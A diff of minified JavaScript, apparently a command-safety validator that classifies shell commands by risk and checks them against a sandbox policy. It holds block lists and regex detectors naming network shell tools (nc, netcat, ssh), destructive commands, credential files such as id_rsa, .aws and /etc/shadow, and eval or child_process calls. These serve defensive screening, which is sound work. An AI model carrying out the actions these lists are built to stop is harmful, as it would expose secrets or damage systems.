-return n.includes(t)||n.includes(e.name)}const Dm=new WeakMap;function xm(t){const e=Dm.get(t);if(e!==void 0)return e;const{
+entries(r).map(([o,a])=>({name:o,sandbox:{...a,only:i}}));return[...s(t,"curated"),...s(e,"workspace"),...s(n)]}const Cm=Object.
+entries(TR).flatMap(([t,e])=>e.map(n=>({...n,category:t}))).sort((t,e)=>t.name<e.name?-1:1);let wc;const ym=new WeakMap;
+function vi(t=[]){if(wc??=new Map(Cm.map(s=>[s.name,bm(s)])),t.length===0)return wc;const e=ym.get(t);if(e!==void 0)return e;
+const n=new Map(wc);for(const s of t){const r=n.get(s.name);n.set(s.name,{...r,...bm(s,r?.category)})}return ym.set(t,n),
+n}const wm="other";function bm(t,e=wm){const n=gR.parse(t);return{...n,category:n.category??e}}function zz(t){return[...new Set(
+[...Cm,...t].map(({category:e=wm})=>e))]}function Di(t){return[...vi(t).values()].flatMap(e=>{const{evolver:n,name:s}=e;
+return n===void 0?[]:(n.programs??[s]).map(r=>({word:r,family:e,evolver:n}))})}function Uz(t){return[...TOOLS.keys(),...Di(
+t).map(({word:e})=>e)]}function Jz(t){const e=Di(t).flatMap(({word:s,family:r})=>[r.name,s]),n=[...vi(t).values()].filter(
+_m);return[...new Set([...e,...n.map(({name:s})=>s)])]}function IR(t,{programs:e,families:n}){if(!e.includes(t))return!1;
+const s=vi(n).get(t);return s!==void 0&&_m(s)}function _m({evolver:t,sandbox:e}){return t===void 0&&e!==void 0&&e.only!==
+"workspace"&&e.maturity!=="blocked"}function Em(t,e,n){const s=vi(n).get(e),{only:r=t,curated:i,...o}=s?.sandbox??{};if(!(s?.
+sandbox===void 0||r!==t))return t==="workspace"||i===void 0?{...o,family:s}:{...o,...i,family:s}}function $R({word:t,family:e},n){
+return n.includes(t)||n.includes(e.name)}const km=new WeakMap;function vm(t){const e=km.get(t);if(e!==void 0)return e;const{
 programs:n,families:s,tool_flags:r={},make_variables:i=[]}=t,o=new Map,a=new Map;for(const l of n.length===0?[]:Di(s)){const{
-variables:d}=l.evolver,B=d?{...l.evolver,variables:[...d,...i]}:l.evolver,f=Z0(l.word,B,Om(r[l.word]));o.set(l.word,f),IR(
-l,n)&&a.set(l.word,f)}let c;const u={tools:$R(r),allowed:a,known:o,offered:l=>(c??=new Map(Di(s).map(d=>[d.word,d.family.
-name])),c.get(l))};return Dm.set(t,u),u}function $R(t){return new Map(Object.entries(t).flatMap(([e,n])=>{const s=ex(e,Om(
-n));return s===void 0?[]:[[e,s]]}))}function Om(t=[]){const e=new Map(t.map(({flag:s,value:r})=>[Bs(s.replace(/^-+/,"")),
-r])),n=(s,r)=>[...e].flatMap(([i,o])=>o===s?`${i}${r}`:[]);return{text:[...n("none",""),...n("text","=")].join(" "),tests:n(
-"path","=").join(" ")}}const Am={path:"node_modules",at:"anywhere"};function Sm(t){if(t.programs.length===0)return[Am];const e=[
-...xm(t).allowed.values()],n=[Am,...e.flatMap(({data:s})=>s.dependencies)];return[...new Map(n.map(s=>[`${s.at} ${s.path}`,
-s])).values()]}function RR(t){return nm(t.build_outputs,Sm(t))}function Jz(t){return Sm(t).flatMap(({at:e,path:n})=>e===
-"home"?[n]:[])}const An="/\0checkout";function vc({policy:t,tree:e,platform:n,cwd:s=""},r){const{workspace:i}=t,o=NR(t)?
-An:void 0,{files:a,cwd:c=s===""?o:`${o??i}/${s}`}=r;return{policy:t,platform:n,proposal:r,mount:a?{at:"/",tree:a}:e?{at:o??
-i,tree:e}:{at:An},cwd:c}}function NR({workspace:t}){const e=Gs(t,An,{at:An});return e!==void 0&&Fr(e,An)}class Dc{workspace;cwd;#e;#t;#s;constructor({
-policy:{workspace:e},cwd:n,platform:s,mount:r}){this.#e=r,this.#t=r.at==="/"?r:{at:r.at},this.#s=s!=="linux",this.workspace=
-Gs(e,An,this.#t)??An,this.cwd=n===void 0?this.workspace:Gs(n,this.workspace,r)??An}locate(e){return Gs(e,this.cwd,this.#e)}leadsInto(e,n){
-const s=this.locate(e);return s===void 0?!1:n.some(r=>{const i=Gs(r,this.workspace,this.#t);return i!==void 0&&this.isIn(
-s,i)})}isIn(e,n){return Fr(e,n,{ignoreCase:this.#s})}mayBeIn(e,n){return Fr(e,n,{ignoreCase:!0})}}var Zn=Te(56);const FR=new Map(
-Object.entries({"deletes files":"rm rmdir shred truncate unlink","overwrites files or disks":"dd","reaches other machine\
-s":"ftp nc ncat netcat rsync scp sftp ssh telnet","reads the environment":"printenv"}).flatMap(([t,e])=>e.split(" ").map(
-n=>[n,t]))),LR=2,PR=/(?<!--env-file(?:-if-exists)?(?:[= ]\.)?)(?:^|[\s/'"=])(?:\.env(?:\.\w+)?|\.netrc|\.npmrc|\.pypirc|\.git-credentials|id_(?:rsa|ed25519|ecdsa)|\.(?:ssh|aws|gnupg|kube)\/|etc\/(?:passwd|shadow)|proc\/\w+\/environ)/,
+variables:d}=l.evolver,B=d?{...l.evolver,variables:[...d,...i]}:l.evolver,f=U0(l.word,B,Dm(r[l.word]));o.set(l.word,f),$R(
+l,n)&&a.set(l.word,f)}let c;const u={tools:SR(new Map(Object.entries(r).map(([l,d])=>[l,Dm(d)]))),allowed:a,known:o,offered:l=>(c??=
+new Map(Di(s).map(d=>[d.word,d.family.name])),c.get(l))};return km.set(t,u),u}function Dm(t=[]){const e=new Map(t.map(({
+flag:s,value:r})=>[Bs(s.replace(/^-+/,"")),r])),n=(s,r)=>[...e].flatMap(([i,o])=>o===s?`${i}${r}`:[]);return{text:[...n(
+"none",""),...n("text","=")].join(" "),tests:n("path","=").join(" ")}}const xm={path:"node_modules",at:"anywhere"};function Om(t){
+if(t.programs.length===0)return[xm];const e=[...vm(t).allowed.values()],n=[xm,...e.flatMap(({data:s})=>s.dependencies)];
+return[...new Map(n.map(s=>[`${s.at} ${s.path}`,s])).values()]}function RR(t){return qp(t.build_outputs,Om(t))}function Zz(t){
+return Om(t).flatMap(({at:e,path:n})=>e==="home"?[n]:[])}const An="/\0checkout";function bc({policy:t,tree:e,platform:n,
+cwd:s=""},r){const{workspace:i}=t,o=NR(t)?An:void 0,{files:a,cwd:c=s===""?o:`${o??i}/${s}`}=r;return{policy:t,platform:n,
+proposal:r,mount:a?{at:"/",tree:a}:e?{at:o??i,tree:e}:{at:An},cwd:c}}function NR({workspace:t}){const e=Gs(t,An,{at:An});
+return e!==void 0&&Fr(e,An)}class _c{workspace;cwd;#e;#t;#s;constructor({policy:{workspace:e},cwd:n,platform:s,mount:r}){
+this.#e=r,this.#t=r.at==="/"?r:{at:r.at},this.#s=s!=="linux",this.workspace=Gs(e,An,this.#t)??An,this.cwd=n===void 0?this.
+workspace:Gs(n,this.workspace,r)??An}locate(e){return Gs(e,this.cwd,this.#e)}leadsInto(e,n){const s=this.locate(e);return s===
+void 0?!1:n.some(r=>{const i=Gs(r,this.workspace,this.#t);return i!==void 0&&this.isIn(s,i)})}isIn(e,n){return Fr(e,n,{ignoreCase:this.#s})}mayBeIn(e,n){
+return Fr(e,n,{ignoreCase:!0})}}var Zn=Te(56);const FR=new Map(Object.entries({"deletes files":"rm rmdir shred truncate \
+unlink","overwrites files or disks":"dd","reaches other machines":"ftp nc ncat netcat rsync scp sftp ssh telnet","reads \
+the environment":"printenv"}).flatMap(([t,e])=>e.split(" ").map(n=>[n,t]))),LR=2,PR=/(?<!--env-file(?:-if-exists)?(?:[= ]\.)?)(?:^|[\s/'"=])(?:\.env(?:\.\w+)?|\.netrc|\.npmrc|\.pypirc|\.git-credentials|id_(?:rsa|ed25519|ecdsa)|\.(?:ssh|aws|gnupg|kube)\/|etc\/(?:passwd|shadow)|proc\/\w+\/environ)/,
 jR={"starts processes":/\bchild_process\b|\b(?:exec|spawn|fork)(?:File)?(?:Sync)?\s*\(\s*\\?['"`]|['"`](?:node:)?(?:cluster|worker_threads)\\?['"`]|\bos\s*\.\s*(?:exec\w*|popen|spawn\w*|system)\b|\b(?:subprocess|shell_exec|passthru|proc_open)\b|\b(?:system|exec|popen)\s*[('"]/,
 "reads the environment":/\bprocess\s*(?:\?\.|\.|(?:\?\.)?\[\s*\\?['"`])\s*(?:env|binding|dlopen)\b|\benv\b[^}]{0,200}\}\s*=\s*process\b|['"`](?:node:)?process\\?['"`]|\bos\s*\.\s*(?:environ|getenv)\b|\bgetenv\b|[%$@]ENV\b|\bENV\s*[[.]/,
 "deletes files":/\b(?:rm|rmdir|unlink|truncate)(?:Sync)?\s*\(|\bos\s*\.\s*(?:remove|unlink)\b|\bshutil\b/,"uses the netw\
 ork":/\bfetch\s*\(|['"`](?:node:)?(?:dgram|dns|https?|http2|net|tls)\\?['"`]|\b(?:urllib|requests|socket)\b/,"runs text \
-as code":/\b(?:eval|Function)\s*\(|['"`](?:node:)?vm\\?['"`]|\b__import__\b/};function Tm(t){if(PR.test(t))return"names \
-a file that is made for secrets";const e=Jt(t),n=Qt(e).some(MR)?Object.entries(jR).find(([,r])=>r.test(t)):void 0;if(n!==
-void 0)return`${n[0]} in inline code`;const[s]=gs(e);return s?rc[s.name]:Im(e)}function MR({words:t}){return t.some((e,n)=>wi(
-t.slice(n))!==void 0)}function Im(t,e=0){for(const{words:n,pipedFrom:s}of Qt(t)){const[r,...i]=n;if(r===void 0)continue;
-const o=ie.posix.basename(r.text),a=$m(o);if(a!==void 0)return a;if(ei(o)&&(s!==void 0||i.length===0))return`has \`${o}\`\
- run whatever it reads`;if(!(o!=="find"&&!Vf(o)))for(const{text:c}of i){const u=$m(ie.posix.basename(c));if(u!==void 0)return u;
-const d=e<LR&&/\s/.test(c)?Im(Jt(c),e+1):void 0;if(d!==void 0)return d}}}function $m(t){const{kind:e,wraps:n}=at(t)??{};
+as code":/\b(?:eval|Function)\s*\(|['"`](?:node:)?vm\\?['"`]|\b__import__\b/};function Am(t){if(PR.test(t))return"names \
+a file that is made for secrets";const e=Zt(t),n=en(e).some(MR)?Object.entries(jR).find(([,r])=>r.test(t)):void 0;if(n!==
+void 0)return`${n[0]} in inline code`;const[s]=gs(e);return s?ec[s.name]:Sm(e)}function MR({words:t}){return t.some((e,n)=>wi(
+t.slice(n))!==void 0)}function Sm(t,e=0){for(const{words:n,pipedFrom:s}of en(t)){const[r,...i]=n;if(r===void 0)continue;
+const o=ie.posix.basename(r.text),a=Tm(o);if(a!==void 0)return a;if(Qr(o)&&(s!==void 0||i.length===0))return`has \`${o}\`\
+ run whatever it reads`;if(!(o!=="find"&&!zf(o)))for(const{text:c}of i){const u=Tm(ie.posix.basename(c));if(u!==void 0)return u;
+const d=e<LR&&/\s/.test(c)?Sm(Zt(c),e+1):void 0;if(d!==void 0)return d}}}function Tm(t){const{kind:e,wraps:n}=at(t)??{};
 if(n==="as-user")return`acts as another user with \`${t}\``;const s=e==="downloader"?"downloads":FR.get(t);return s&&`${s}\
- with \`${t}\``}function Rm({warnings:t=[],network_touching:e}){return e?["network_touching",...t]:t}function Nm(t,e,n=(s,r)=>ds[s](
-r)){if(e.forms!==void 0)return GR(t,e,e.forms,n);if(e.subcommands===void 0)return Pm(t,e,n);const[s,...r]=t,i=Object.entries(
-e.subcommands).find(([a])=>a===s?.text)?.[1];if(i!==void 0)return Pm(r,{...e,...i},n);const o=`is accepted only with ${Lm(
+ with \`${t}\``}function Im({warnings:t=[],network_touching:e}){return e?["network_touching",...t]:t}function $m(t,e,n=(s,r)=>ds[s](
+r)){if(e.forms!==void 0)return GR(t,e,e.forms,n);if(e.subcommands===void 0)return Fm(t,e,n);const[s,...r]=t,i=Object.entries(
+e.subcommands).find(([a])=>a===s?.text)?.[1];if(i!==void 0)return Fm(r,{...e,...i},n);const o=`is accepted only with ${Nm(
 Object.keys(e.subcommands))}`;return{use:e,flags:[],values:[],objections:[{objection:o,...s&&{word:s}}]}}function GR(t,e,n,s){
-const r=`is accepted only as ${Lm(Object.keys(n))}`,[i]=t;let o={use:e,flags:[],values:[],objections:[{objection:r,...i&&
-{word:i}}]};for(const[a,c]of Object.entries(n)){const u=z0(hf(a)??[],t,s);if(u===void 0)continue;const l=u.map(({word:B,
+const r=`is accepted only as ${Nm(Object.keys(n))}`,[i]=t;let o={use:e,flags:[],values:[],objections:[{objection:r,...i&&
+{word:i}}]};for(const[a,c]of Object.entries(n)){const u=G0(lf(a)??[],t,s);if(u===void 0)continue;const l=u.map(({word:B,
 kind:f})=>({text:B.text,word:B,kind:f})),d=u.find(B=>B.wrong!==void 0);if(!d)return{use:{...e,...c},flags:[],values:l,objections:[]};
-o={...o,values:l,objections:[Fm(d)]}}return o}function Fm({word:t,wrong:e}){return{objection:`does not accept \`${t.text}\
-\`, which ${e}`,word:t}}function Lm(t){return t.map(e=>`\`${e}\``).join(", ")}function Pm(t,e,n){const{leading_flags:s=[]}=e,
-{flags:r,operands:i}=Un(bf(e.flags,s),t),o=[],a=(C,b)=>o.push(Fm({word:C,wrong:b})),c=[],u=[];for(const{word:C,flag:b,value:y,
-valueWord:D}of r){if(b===void 0||oi(b.kind)||b.choices?.includes(y??"")===!1){a(C,"is not among its flags");continue}u.push(
-b.name),s.includes(b.name)&&i.some(O=>jm(C,O))&&a(C,"must come before the operands"),b.arity!=="none"&&(y===void 0?a(C,"\
+o={...o,values:l,objections:[Rm(d)]}}return o}function Rm({word:t,wrong:e}){return{objection:`does not accept \`${t.text}\
+\`, which ${e}`,word:t}}function Nm(t){return t.map(e=>`\`${e}\``).join(", ")}function Fm(t,e,n){const{leading_flags:s=[]}=e,
+{flags:r,operands:i}=Un(gf(e.flags,s),t),o=[],a=(C,b)=>o.push(Rm({word:C,wrong:b})),c=[],u=[];for(const{word:C,flag:b,value:y,
+valueWord:D}of r){if(b===void 0||ii(b.kind)||b.choices?.includes(y??"")===!1){a(C,"is not among its flags");continue}u.push(
+b.name),s.includes(b.name)&&i.some(O=>Lm(C,O))&&a(C,"must come before the operands"),b.arity!=="none"&&(y===void 0?a(C,"\
 requires a value"):c.push({text:y,kind:b.kind,word:D??C}))}const l=r.find(({flag:C})=>!s.includes(C?.name??"")),d=(C=[])=>C.
 some(b=>u.includes(b)),B=(sa(e.operands??"path*")??[]).slice(d(e.first_operand_by)?1:0);for(const[C,b]of i.entries()){s.
-length>0&&l&&jm(b,l.word)&&a(b,"comes after the expression");const y=B[Math.min(C,B.length-1)];c.push({text:b.text,kind:y?.
+length>0&&l&&Lm(b,l.word)&&a(b,"comes after the expression");const y=B[Math.min(C,B.length-1)];c.push({text:b.text,kind:y?.
 kind??"path",word:b})}for(const{text:C,kind:b,word:y}of c){const D=n(b,C);D!==void 0&&o.push({objection:`does not accept\
- \`${C}\`, which ${D}`,word:y})}const{min:f,max:h}=gf(B),m=f-(d(e.last_operand_by)?1:0),g=i.length;if(g<m||g>h){const C=h===
+ \`${C}\`, which ${D}`,word:y})}const{min:f,max:h}=ff(B),m=f-(d(e.last_operand_by)?1:0),g=i.length;if(g<m||g>h){const C=h===
 m?`${h}`:`${m} to ${h}`,b=Number.isFinite(h)?C:`at least ${m}`;o.push({objection:`takes ${b} operands, not ${g}`})}return{
-use:e,flags:u,values:c,objections:o}}function jm(t,e){return t.span.start>e.span.start}function Mm(t,{invocation:e}){const n=e?.
+use:e,flags:u,values:c,objections:o}}function Lm(t,e){return t.span.start>e.span.start}function Pm(t,{invocation:e}){const n=e?.
 family?["program","invocation","target"]:["program"];return t.filter(({layer:s,rule:r})=>!n.includes(String(s))||(0,Zn.Y)(
-r).anyText===!0)}function Gm(t,e){const n=new Map;return t.filter(({rule:s})=>{const r=(n.get(s)??0)+1;return n.set(s,r),
-r<=e})}function Hm({problems:t}){return t.map(Oe.Lb)}const HR=10,zR=[ZR,KR,qR,VR,YR,t=>Wm(Zm(t),t.context.policy)],zm=(t,e,n)=>{
-const{policy:s,proposal:r}=n,[i,...o]=sN(t),a=[...iN(t),...Mm(e,t)],c=r.family??i?.text??"",u=vm("curated",c,s.families),
+r).anyText===!0)}function jm(t,e){const n=new Map;return t.filter(({rule:s})=>{const r=(n.get(s)??0)+1;return n.set(s,r),
+r<=e})}function Mm({problems:t}){return t.map(Oe.Lb)}const HR=10,zR=[ZR,KR,WR,VR,YR,t=>Zm(Um(t),t.context.policy)],Gm=(t,e,n)=>{
+const{policy:s,proposal:r}=n,[i,...o]=sN(t),a=[...iN(t),...Pm(e,t)],c=r.family??i?.text??"",u=Em("curated",c,s.families),
 l=r.mode??(s.experimental.includes(c)?"experimental":"structured");if(i===void 0||u===void 0){const _=i?(0,Oe.gk)("not_i\
-n_registry",{family:c},{span:i.span}):(0,Oe.gk)("no_command",{});return{...Km("dangerous",n),findings:[_,...a].filter(Um)}}
-const d=new Dc(n),B=Nm(o,u,nN(d)),f=UR(B),h=new Set(u.dangerous_targets?.map(_=>d.locate(_))),m=f.some(({path:_})=>h.has(
+n_registry",{family:c},{span:i.span}):(0,Oe.gk)("no_command",{});return{...Jm("dangerous",n),findings:[_,...a].filter(Hm)}}
+const d=new _c(n),B=$m(o,u,nN(d)),f=UR(B),h=new Set(u.dangerous_targets?.map(_=>d.locate(_))),m=f.some(({path:_})=>h.has(
 d.locate(_.replace(/\*$/,"")))),g={context:n,places:d,base:i,name:c,program:u,proposalMode:l,words:o,read:B,paths:f,broad:m},
-[C,...b]=zR.map(_=>_(g)),y=[...C??[],...a,...b.flat()],D=Zm(g),O=qm(D,l);return{findings:y.some(({severity:_})=>_==="err\
-or")?Gm(y.filter(Um),HR):[...y,...QR(g).map(_=>(0,Oe.gk)(_,{}))],risk:D,confirmation:O}};function Um({severity:t}){return t!==
-"warning"}function UR({use:t,values:e}){const n=e.filter(({kind:r,text:i})=>af.has(r)&&i!=="-").map(({text:r,word:i})=>({
+[C,...b]=zR.map(_=>_(g)),y=[...C??[],...a,...b.flat()],D=Um(g),O=Km(D,l);return{findings:y.some(({severity:_})=>_==="err\
+or")?jm(y.filter(Hm),HR):[...y,...QR(g).map(_=>(0,Oe.gk)(_,{}))],risk:D,confirmation:O}};function Hm({severity:t}){return t!==
+"warning"}function UR({use:t,values:e}){const n=e.filter(({kind:r,text:i})=>nf.has(r)&&i!=="-").map(({text:r,word:i})=>({
 path:r,word:i})),{default_operand:s}=t;return n.length===0&&s!==void 0?[{path:s}]:n}const JR={structured:["structured","\
 experimental"],direct_only:["structured"],experimental_only:["experimental"],blocked:[]};function ZR({name:t,base:e,program:n,
 proposalMode:s,context:r}){const{maturity:i="structured",platforms:o}=n.family.sandbox??{},{category:a}=n.family,{policy:c,
 platform:u}=r,l=JR[i];return[...c.disabled_packs.includes(a)?[`is in the disabled pack \`${a}\``]:[],...o?.includes(u)===
 !1?[`does not exist on \`${u}\``]:[],...l.includes(s)?[]:[`has the maturity \`${i}\``]].map(B=>(0,Oe.gk)("family_unavail\
 able",{family:t,reason:B},{span:e.span}))}function KR({name:t,base:e}){return t===e.text?[]:[(0,Oe.gk)("family_base_mism\
-atch",{family:t,base:e.text},{span:e.span})]}const WR={tar:"constrained_form.tar",unzip:"constrained_form.unzip",zip:"co\
+atch",{family:t,base:e.text},{span:e.span})]}const qR={tar:"constrained_form.tar",unzip:"constrained_form.unzip",zip:"co\
 nstrained_form.zip",ping:"constrained_form.ping",curl:"constrained_form.curl",dig:"constrained_form.dns",nslookup:"const\
-rained_form.dns"};function qR(t){const{name:e,program:n,words:s,read:r}=t,i=WR[e]??"constrained_form.other",o=n.forms?i:
-"argument_refused";return[...s.filter(({text:c})=>n.family.category==="archives"&&cf.test(c)).map(({text:c,span:u})=>(0,Oe.
-gk)("shell_operator.quoted",{operator:c},{span:u})),...r.objections.filter(({word:c})=>c===void 0||Jm(c,t)===void 0).map(
+rained_form.dns"};function WR(t){const{name:e,program:n,words:s,read:r}=t,i=qR[e]??"constrained_form.other",o=n.forms?i:
+"argument_refused";return[...s.filter(({text:c})=>n.family.category==="archives"&&sf.test(c)).map(({text:c,span:u})=>(0,Oe.
+gk)("shell_operator.quoted",{operator:c},{span:u})),...r.objections.filter(({word:c})=>c===void 0||zm(c,t)===void 0).map(
 ({objection:c,word:u})=>(0,Oe.gk)(o,{family:e,objection:c},u?{span:u.span}:{}))]}function VR(t){return t.words.flatMap(e=>{
-const n=Jm(e,t);if(n===void 0)return[];const s={family:t.name,operand:e.text,prefix:n};return[(0,Oe.gk)("forbidden_opera\
-nd_prefix",s,{span:e.span})]})}function Jm({text:t},{program:e}){const{forbidden_prefixes:n=[]}=e;return n.find(s=>t.toLowerCase().
+const n=zm(e,t);if(n===void 0)return[];const s={family:t.name,operand:e.text,prefix:n};return[(0,Oe.gk)("forbidden_opera\
+nd_prefix",s,{span:e.span})]})}function zm({text:t},{program:e}){const{forbidden_prefixes:n=[]}=e;return n.find(s=>t.toLowerCase().
 startsWith(s.toLowerCase()))}function YR({paths:t,places:e,context:n}){const{allowed_roots:s}=n.policy;return s.length===
 0?[]:t.filter(({path:r})=>r.startsWith("~")||!e.leadsInto(r,s)).map(({path:r,word:i})=>(0,Oe.gk)("outside_allowed_roots",
-{path:r,roots:s},i&&{span:i.span}))}function Zm({broad:t,read:{use:e}}){return t?"dangerous":e.risk??"safe"}const XR=/(?:^|[\\/])\.env(?:\.[\w.-]+)?$|^\/proc\/[^/]+\/environ$/i;
-function QR({broad:t,paths:e,proposalMode:n,read:s}){const{flag_warnings:r={}}=s.use;return[...new Set([...Rm(s.use),...s.
+{path:r,roots:s},i&&{span:i.span}))}function Um({broad:t,read:{use:e}}){return t?"dangerous":e.risk??"safe"}const XR=/(?:^|[\\/])\.env(?:\.[\w.-]+)?$|^\/proc\/[^/]+\/environ$/i;
+function QR({broad:t,paths:e,proposalMode:n,read:s}){const{flag_warnings:r={}}=s.use;return[...new Set([...Im(s.use),...s.
 flags.flatMap(o=>r[o]??[]),...t?["broad_permission_target"]:[],...e.some(({path:o})=>XR.test(o))?["env_secrets"]:[],...n===
-"experimental"?["experimental_mode"]:[]])]}function Km(t,{policy:e,proposal:n}){const s=qm(t,n.mode??"structured");return{
-findings:Wm(t,e),risk:t,confirmation:s}}function Wm(t,{mode:e,allow_dangerous:n}){return t==="safe"||t==="write"&&e!=="s\
-afe"||t==="dangerous"&&e==="dangerous"&&n?[]:[(0,Oe.gk)("policy_risk",{risk:t,mode:e})]}function qm(t,e){return e==="exp\
+"experimental"?["experimental_mode"]:[]])]}function Jm(t,{policy:e,proposal:n}){const s=Km(t,n.mode??"structured");return{
+findings:Zm(t,e),risk:t,confirmation:s}}function Zm(t,{mode:e,allow_dangerous:n}){return t==="safe"||t==="write"&&e!=="s\
+afe"||t==="dangerous"&&e==="dangerous"&&n?[]:[(0,Oe.gk)("policy_risk",{risk:t,mode:e})]}function Km(t,e){return e==="exp\
 erimental"?"very_strong":t==="dangerous"?"strong":"standard"}const eN=["/bin","/dev","/etc","/lib","/private","/sbin","/\
 usr","/var"],tN=/^\/(?:home|Users|root)(?:\/[^/]*)?$/i;function nN(t){return(e,n)=>{const s=ds[e](n);if(s!==void 0||e!==
 "destination"&&e!=="source")return s;const r=t.locate(n);if(r===void 0)return"cannot be resolved";if(r==="/")return"is t\
@@ -5658,20 +5661,20 @@ operator","redirection","multiline"]);function iN({problems:t}){return t.flatMap
 Y)(e);if(r===void 0)return[];if(r==="unreadable")return[(0,Oe.gk)("parse_failed",{},{span:s})];const{operator:i,written:o,
 character:a}=n,c=String(i??o??a),u=r==="operator"?oN(c):r;return[(0,Oe.gk)(`shell_operator.${u}`,{operator:c},{span:s})]})}
 function oN(t){return t==="|"||t==="|&"?"pipeline":t==="&"?"background":"chaining"}const aN=(t,e,n)=>{const s=t.words[0]?.
-text;if(t.invocation===void 0&&s&&TR(s,n.policy))return zm(t,e,uN(n));const r=cN(t,e);return{findings:e,...r&&{risk:r}}};
+text;if(t.invocation===void 0&&s&&IR(s,n.policy))return Gm(t,e,uN(n));const r=cN(t,e);return{findings:e,...r&&{risk:r}}};
 function cN({invocation:t},e){const n=t?.family?.data.risk;return e.some(({severity:r})=>r==="error")||n==="safe"?void 0:
 n}function uN(t){const{policy:e}=t,n=e.allowed_roots.length>0?e.allowed_roots:["."];return{...t,policy:{...e,allowed_roots:n}}}
-const Vm=/^(?:-e|--eval|-p|--print|-r|--require|--import|--loader|--experimental[-_]loader|-i|--interactive|--inspect[a-z-]*|-C|--conditions|--env[-_]file(?:[-_]if[-_]exists)?|-[eprci]{2,})(?:=|$)/,
-Ym={"1.94":{refused:Vm,information:new Set(["--version","--help","--v8-options"])},newer:{refused:Vm,options:new Set(["-\
--check"]),information:new Set(["--version","--help"]),text:/`|\$\(/}},lN=(t,e)=>{const{invocation:n}=t,s=[...e,...Qm("1.\
-94",t)];if(s.some(({severity:o})=>o==="error"))return{findings:s};const[r]=Qm("newer",t);if(r){const o=String(r.args.flag??
+const qm=/^(?:-e|--eval|-p|--print|-r|--require|--import|--loader|--experimental[-_]loader|-i|--interactive|--inspect[a-z-]*|-C|--conditions|--env[-_]file(?:[-_]if[-_]exists)?|-[eprci]{2,})(?:=|$)/,
+Wm={"1.94":{refused:qm,information:new Set(["--version","--help","--v8-options"])},newer:{refused:qm,options:new Set(["-\
+-check"]),information:new Set(["--version","--help"]),text:/`|\$\(/}},lN=(t,e)=>{const{invocation:n}=t,s=[...e,...Ym("1.\
+94",t)];if(s.some(({severity:o})=>o==="error"))return{findings:s};const[r]=Ym("newer",t);if(r){const o=String(r.args.flag??
 ""),a={...r.span&&{span:r.span},...dN};s.push((0,Oe.gk)("validator-flag",{flag:o,of:"newer"},a))}const i=n?.operands[0];
-if(i&&!Xm(n,Ym["1.94"])){const{text:o,span:a}=i;s.push((0,Oe.gk)("validator-empty-folder",{script:o},{span:a}))}return{findings:s}},
-dN={severity:"notice",harm:"bookkeeping"};function Xm({flags:t},{information:e}){return t.some(({name:n})=>e.has(n))}function Qm(t,{
-words:e,invocation:n,command:s}){const r=Ym[t],[i,...o]=e;if(i===void 0)return[];const a=C=>(0,Oe.gk)("validator-script",
+if(i&&!Vm(n,Wm["1.94"])){const{text:o,span:a}=i;s.push((0,Oe.gk)("validator-empty-folder",{script:o},{span:a}))}return{findings:s}},
+dN={severity:"notice",harm:"bookkeeping"};function Vm({flags:t},{information:e}){return t.some(({name:n})=>e.has(n))}function Ym(t,{
+words:e,invocation:n,command:s}){const r=Wm[t],[i,...o]=e;if(i===void 0)return[];const a=C=>(0,Oe.gk)("validator-script",
 {command:C},{span:i.span});if(i.text!=="node")return[a(`\`${i.text}\``)];const{flags:c=[],operands:[u]=[]}=n??{},l=(C,b)=>{
 const y=u&&u.span.start<b.start?"script":"node";return(0,Oe.gk)("validator-flag",{flag:C,of:y},{span:b})},d=n!==void 0&&
-Xm(n,r),B=d&&c.length===1&&u===void 0,{options:f}=r,h=B||f===void 0?[]:c.filter(({name:C})=>!f.has(C)),m=r.text?.exec(s),
+Vm(n,r),B=d&&c.length===1&&u===void 0,{options:f}=r,h=B||f===void 0?[]:c.filter(({name:C})=>!f.has(C)),m=r.text?.exec(s),
 g=c.some(({name:C})=>C==="--test");return[...o.flatMap(({text:C,span:b})=>r.refused.test(C)?[l(C,b)]:[]),...h.map(({written:C,
 span:b})=>l(C,b)),...m?[l(m[0],{start:m.index,end:m.index+m[0].length})]:[],...(u===void 0||g)&&!d?[a("`node` without a \
 script")]:[]]}/*!
@@ -5685,22 +5688,22 @@ script")]:[]]}/*!
 * @license MIT
 */var L=class Yn{static FOLD_CASE=1;static LITERAL=2;static CLASS_NL=4;static DOT_NL=8;static ONE_LINE=16;static NON_GREEDY=32;static PERL_X=64;static UNICODE_GROUPS=128;static WAS_DOLLAR=256;static LOOKBEHIND=512;static MATCH_NL=Yn.
 CLASS_NL|Yn.DOT_NL;static PERL=Yn.CLASS_NL|Yn.ONE_LINE|Yn.PERL_X|Yn.UNICODE_GROUPS;static POSIX=0;static UNANCHORED=0;static ANCHOR_START=1;static ANCHOR_BOTH=2};
-const Ct={CASE_INSENSITIVE:1,DOTALL:2,MULTILINE:4,DISABLE_UNICODE_GROUPS:8,LONGEST_MATCH:16,LOOKBEHINDS:512},tr=128,xc=new Int32Array(
-tr),Oc=new Int32Array(tr),xi=65535;for(let t=0;t<tr;t++)t>=97&&t<=122?xc[t]=t-32:xc[t]=t,t>=65&&t<=90?Oc[t]=t+32:Oc[t]=t;
+const Ct={CASE_INSENSITIVE:1,DOTALL:2,MULTILINE:4,DISABLE_UNICODE_GROUPS:8,LONGEST_MATCH:16,LOOKBEHINDS:512},tr=128,Ec=new Int32Array(
+tr),kc=new Int32Array(tr),xi=65535;for(let t=0;t<tr;t++)t>=97&&t<=122?Ec[t]=t-32:Ec[t]=t,t>=65&&t<=90?kc[t]=t+32:kc[t]=t;
 var P=class{static CODES=Object.freeze({"\x07":7,"\b":8,"	":9,"\n":10,"\v":11,"\f":12,"\r":13," ":32,'"':34,$:36,"&":38,
 "'":39,"(":40,")":41,"*":42,"+":43,"-":45,".":46,0:48,1:49,2:50,3:51,4:52,5:53,6:54,7:55,8:56,9:57,":":58,"<":60,">":62,
 "?":63,A:65,B:66,C:67,F:70,P:80,Q:81,U:85,Z:90,"[":91,"\\":92,"]":93,"^":94,_:95,"`":96,a:97,b:98,f:102,i:105,m:109,n:110,
-r:114,s:115,t:116,v:118,x:120,z:122,"{":123,"|":124,"}":125});static toUpperCase(t){if(t<tr)return xc[t];const e=String.
+r:114,s:115,t:116,v:118,x:120,z:122,"{":123,"|":124,"}":125});static toUpperCase(t){if(t<tr)return Ec[t];const e=String.
 fromCodePoint(t).toUpperCase(),n=e.codePointAt(0)>xi?2:1;if(e.length>n)return t;const s=String.fromCodePoint(e.codePointAt(
 0)).toLowerCase(),r=s.codePointAt(0)>xi?2:1;return s.length>r||s.codePointAt(0)!==t?t:e.codePointAt(0)}static toLowerCase(t){
